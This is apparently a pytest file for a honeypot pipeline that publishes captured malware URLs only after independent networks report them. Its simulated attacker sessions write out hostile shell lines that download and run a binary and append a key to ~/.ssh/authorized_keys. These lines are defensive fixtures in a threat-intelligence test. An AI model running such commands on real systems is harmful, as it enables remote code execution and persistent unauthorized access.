"""Which URLs become for everyone, over a real line and store."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select
from tests.pipeline.conftest import ELF, START, Bench

from urltrap.pipeline.line import Line
from urltrap.pipeline.stages import stages
from urltrap.store.schema_public import publications

PUBLIC = {"public_networks": ["198.51.100.0/24"]}
URL = b"http://198.51.100.9/bins/mips"


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    made = Bench(
        tmp_path,
        publish={"delay_minutes": [60, 60], "operator_addresses": ["192.0.2.128/25"]},
        testing=PUBLIC,
    )
    yield made
    made.close()


def attack(bench: Bench, address: str, url: bytes = URL) -> None:
    bench.fetcher.bodies.setdefault(url.decode(), ELF)
    session = bench.visit(
        b"wget " + url + b" -O y; chmod 755 y; ./y", asks=[(url, b"y")], runs=[[b"./y"]], address=address
    )
    bench.trap_fetches(url, session)
    bench.settle()


def rows(bench: Bench) -> list[tuple[datetime, datetime, datetime]]:
    with bench.store.connect() as connection:
        query = select(publications.c.after, publications.c.first, publications.c.last)
        return [tuple(row) for row in connection.execute(query)]


def test_only_what_independent_networks_showed_is_for_everyone(bench: Bench) -> None:
    attack(bench, "203.0.113.7")
    attack(bench, "203.0.113.200")  # another address of the same network (AS64500)
    attack(bench, "192.0.2.200")  # the operator's own test
    assert rows(bench) == []
    bench.time = START + timedelta(days=2)
    attack(bench, "198.51.100.77")
    day = bench.time.replace(hour=0, minute=0)
    out = rows(bench)
    assert len(out) == 1 and out[0][1:] == (day, day)
    assert out[0][0] > day + timedelta(hours=1), "an hour after the second network showed it"
    bench.time += timedelta(days=1)
    attack(bench, "198.51.100.78")
    assert rows(bench) == out, "one network alone moves no day"


@pytest.mark.parametrize("word", ["db-replica2", "ZGItcmVwbGljYTI"])
def test_what_carries_a_hidden_name_is_withheld(tmp_path: Path, word: str) -> None:
    bench = Bench(tmp_path, public={"hidden": ["db-replica2"]}, testing=PUBLIC)
    for address in ("203.0.113.7", "198.51.100.77"):
        attack(bench, address, URL + b"?" + word.encode())
    assert rows(bench) == []
    bench.close()


def test_other_settings_of_the_gate_are_applied_to_what_was_judged_before(tmp_path: Path) -> None:
    bench = Bench(tmp_path, testing=PUBLIC)
    attack(bench, "203.0.113.7")
    attack(bench, "198.51.100.77")
    assert len(rows(bench)) == 1
    bench.workshop.settings = bench.settings.model_copy(
        update={"public": bench.settings.public.model_copy(update={"networks": 3})}
    )
    bench.line = Line(bench.workshop, bench.reader, stages())
    bench.settle()
    assert rows(bench) == []
    bench.close()


def test_somebody_alone_changes_nothing_of_what_is_told_of_a_url_that_is_out(bench: Bench) -> None:
    attack(bench, "203.0.113.7")
    attack(bench, "198.51.100.77")
    before = told(bench)
    bench.time += timedelta(days=3)
    session = bench.visit(
        b"tftp -g -r mips 198.51.100.9; wget " + URL + b"; crontab -l; echo k >> ~/.ssh/authorized_keys",
        asks=[(URL, b"y")], runs=[[b"./y"]], address="192.0.2.66",
    )  # fmt: skip
    bench.trap_fetches(URL, session)
    bench.settle()
    assert told(bench) == before
    attack(bench, "198.51.100.78")
    assert told(bench) != before, "with two networks on one day, all that is known is told"


def told(bench: Bench) -> dict[str, object]:
    with bench.store.connect() as connection:
        found: dict[str, object] = json.loads(connection.execute(select(publications.c.told)).scalar_one())
    return found
